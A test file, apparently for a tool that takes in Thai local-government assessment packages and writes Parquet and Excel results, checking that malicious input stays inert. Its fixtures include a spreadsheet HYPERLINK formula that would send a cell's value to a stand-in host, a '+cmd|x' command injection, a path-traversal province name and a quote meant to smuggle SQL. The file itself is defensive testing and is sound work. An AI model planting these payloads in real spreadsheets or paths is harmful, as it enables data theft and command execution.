import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import exceljs from 'exceljs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { buildIfStale } from '#main/build.ts';
import { takeIn, type IntakeSummary } from '#main/intake/take-in.ts';
import { sha256 } from '#main/lib/sha256.ts';
import { lookedAgain, makePackage, put } from '#tests/support/intake-packages.ts';
import { newIdentity } from '#tests/support/package-fixture.ts';
import { root } from '#tests/support/paths.ts';

const base = mkdtempSync(join(tmpdir(), 'lpa-intake-results-'));
afterAll(() => rmSync(base, { recursive: true, force: true }));
const folder = join(base, 'in');
// A quote in the path must not become SQL.
const out = join(base, "o'ut [1]*");
const formula = `=HYPERLINK("http://x.test/?"&A1,"กด")`;
let summary: IntakeSummary;
let newer: Buffer;

const take = () =>
  takeIn({
    ...{ folder, out, identity: null, trust: [], choose: [], examinersAtOnce: 2, now: Date.now, version: '0.0.0' },
    onProgress: () => undefined,
  });

beforeAll(async () => {
  const team = await newIdentity();
  newer = await makePackage(team, { changes: lookedAgain });
  put(join(folder, 'old.asice'), await makePackage(team));
  put(join(folder, 'new.asice'), newer);
  put(join(folder, 'text.asice'), 'no package');
  const attack = { code: '05010001', name: formula, district: '+cmd|x', province: '../../หนี' };
  put(join(folder, '=1+1.asice'), await makePackage(team, { lao: attack }));
  const round = { id: 'lpa-2568', year: 2568, title: { th: 'LPA 2568', en: 'LPA 2568' } };
  const deadline = { original: '2025-07-31', extended: null };
  put(join(folder, 'next.asice'), await makePackage(team, { manifest: { round: { ...round, deadline } } }));
  const edit = { 'scores.csv': (text: string) => text.replace('5,5,3,3', '5,5,5,3') };
  put(join(folder, 'broken.asice'), await makePackage(team, { edit, lao: { code: '05010002' } }));
  summary = await take();
});

async function ask(query: string): Promise<Record<string, unknown>[]> {
  const connection = await (await DuckDBInstance.create(':memory:')).connect();
  const rows = (await connection.runAndReadAll(query)).getRowObjectsJson();
  connection.closeSync();
  return rows;
}
const from = (table: string) =>
  `read_parquet('${join(out, 'results', 'parquet', table).replaceAll("'", "''").replaceAll('[', '[[]').replace('*', '[*]')}/**/*.parquet', hive_partitioning = true)`;

test('Parquet by year and province, read back by DuckDB: totals of what counts', async () => {
  expect(summary).toMatchObject({ outcomes: { accepted: 3, superseded: 1, rejected: 1, unreadable: 1 } });
  expect(summary.results.parquet).toBe('written');
  const rows = await ask(
    `SELECT year, province, lao_code, lao_name, team_points, full_points, team_percent, passed, signers, package,
       typeof(team_percent) AS kind, typeof(finalised_at) AS time FROM ${from('packages')} ORDER BY year, lao_code`,
  );
  expect(rows).toHaveLength(3);
  expect(rows[0]).toMatchObject({ lao_code: '05010001', province: '../../หนี', lao_name: `เทศบาลตำบล${formula}` });
  expect(rows[1]).toMatchObject({
    ...{ province: 'ธารานคร', lao_code: '05990312', team_points: 8, full_points: 10, team_percent: '80.00' },
    ...{ passed: true, signers: 1, package: sha256(newer), kind: 'DECIMAL(5,2)', time: 'TIMESTAMP' },
  });
  expect(rows.map(({ year }) => Number(year))).toEqual([2567, 2567, 2568]);
});

test('Parquet: every indicator of what counts, and nothing of what was replaced', async () => {
  const rows = await ask(
    `SELECT indicator, aspect, self_points, team_points, state, pilot FROM ${from('scores')}
     WHERE lao_code = '05990312' AND year = 2567 ORDER BY indicator`,
  );
  const self = { self_points: 5 };
  expect(rows).toEqual([
    { indicator: 'i01', aspect: 1, ...self, team_points: 5, state: 'scored', pilot: false },
    { indicator: 'i27', aspect: 1, ...self, team_points: 3, state: 'scored', pilot: false },
    { indicator: 'i50', aspect: 2, ...self, team_points: 0, state: 'scored', pilot: true },
    { indicator: 'i61', aspect: 2, ...self, team_points: null, state: 'removed', pilot: false },
  ]);
});

test('partitions stay below the folder, whatever a package calls its province', () => {
  const parquet = join(out, 'results', 'parquet');
  expect(readdirSync(parquet).sort()).toEqual(['packages', 'scores']);
  expect(readdirSync(join(parquet, 'scores')).sort()).toEqual(['year=2567', 'year=2568']);
  expect(readdirSync(join(parquet, 'scores', 'year=2567'))).toHaveLength(2);
  expect(readdirSync(base).sort()).toEqual(['in', "o'ut [1]*"]);
});

test('the workbook: totals, scores by indicator, what was not taken; no cell is a formula', async () => {
  const file = join(out, 'results', 'results.xlsx');
  const book = new exceljs.Workbook();
  await book.xlsx.readFile(file);
  expect(book.worksheets.map(({ name }) => name)).toEqual(['ผลรวม', 'คะแนนทีม 2567 1', 'ที่ไม่ได้รับ']);
  const rows = (name: string) => {
    const found: unknown[][] = [];
    book.getWorksheet(name)?.eachRow((row) => found.push((row.values as unknown[]).slice(1)));
    return found;
  };
  const totals = rows('ผลรวม');
  expect(totals).toHaveLength(4);
  expect(totals[2]).toEqual(
    expect.arrayContaining([2567, 'ธารานคร', '05990312', 'เทศบาลตำบลท่าแก้วพัฒนา', 8, 10, 80, 'ผ่าน']),
  );
  const scores = rows('คะแนนทีม 2567 1');
  expect(scores[0]?.slice(5)).toEqual(['01 ตัวชี้วัด i01', '27 รายจ่ายเพื่อการลงทุน', '50 ตัวชี้วัด i50', '61 ตัวชี้วัด i61']);
  expect(scores.find((row) => row[2] === '05990312')?.slice(5)).toEqual([5, 3, 0, 'ตัดฐาน']);
  const others = rows('ที่ไม่ได้รับ');
  expect(others.map((row) => row[0])).toEqual(expect.arrayContaining(['ตีกลับ', 'มีฉบับใหม่กว่า', 'อ่านไม่ได้']));
  expect(others.find((row) => row.includes('csv.cell'))).toEqual(expect.arrayContaining(['27', '3', '5']));
  expect(totals.flat()).toContain(`เทศบาลตำบล${formula}`);
  expect(totals.flat()).toContain('+cmd|x');
  const unpacked = execFileSync('unzip', ['-p', file, 'xl/worksheets/*'], { encoding: 'utf8', maxBuffer: 1e8 });
  expect(unpacked).toContain('HYPERLINK');
  expect(unpacked).not.toMatch(/<f[ >]|<hyperlink/);
  // Text format: stays text also when somebody edits the cell.
  const cell = book.getWorksheet('ผลรวม')?.getCell('D2');
  expect([cell?.value, cell?.numFmt]).toEqual(['+cmd|x', '@']);
});

test('the built command line writes Parquet too; where DuckDB fails or is missing it says so, and the rest is there', async () => {
  await buildIfStale();
  const own = join(base, 'own');
  const env = { ...process.env, LC_ALL: 'en_GB.UTF-8' };
  const built = spawnSync(process.execPath, [join(root, 'out/lpa.js'), 'intake', folder, '--out', own], {
    ...{ encoding: 'utf8', env },
  });
  expect([built.status, built.stderr]).toEqual([1, '']);
  expect(existsSync(join(own, 'results', 'parquet', 'scores'))).toBe(true);
  // As installed without the optional package: nothing but the driver of the database beside the bundle.
  const bare = join(base, 'bare');
  for (const name of ['lpa.js', 'intake-worker.mjs']) cpSync(join(root, 'out', name), join(bare, 'out', name));
  for (const name of ['sqlite3', 'bindings', 'file-uri-to-path'])
    cpSync(join(root, 'node_modules', name), join(bare, 'node_modules', name), { recursive: true });
  cpSync(join(root, 'package.json'), join(bare, 'package.json'));
  const again = () =>
    spawnSync(process.execPath, [join(bare, 'out/lpa.js'), 'intake', folder, '--out', own], { encoding: 'utf8', env });
  // An engine that is there and fails: it costs the Parquet, and an older one is not left to be taken for the present.
  const engine = join(bare, 'node_modules/@duckdb/node-api');
  put(join(engine, 'package.json'), '{"name":"@duckdb/node-api","version":"1.0.0","type":"module","main":"fails.js"}');
  const failing =
    "export const DuckDBInstance = { create: async () => { throw new Error('IO Error: no space left'); } };";
  put(join(engine, 'fails.js'), failing);
  const failed = again();
  expect([failed.status, failed.stdout]).toEqual([1, expect.stringMatching(/3 {2}accepted/)]);
  expect(failed.stderr).toContain('Parquet could not be written');
  expect(readdirSync(join(own, 'results'))).toEqual(['results.xlsx']);
  expect(readdirSync(join(own, 'receipts')).length).toBeGreaterThanOrEqual(6);
  rmSync(join(bare, 'node_modules/@duckdb'), { recursive: true });
  const run = again();
  expect(run.status).toBe(1);
  expect(run.stderr).toContain('DuckDB is not installed');
  expect(run.stdout).toMatch(/3 {2}accepted/);
  expect(readdirSync(join(own, 'results'))).toEqual(['results.xlsx']);
});
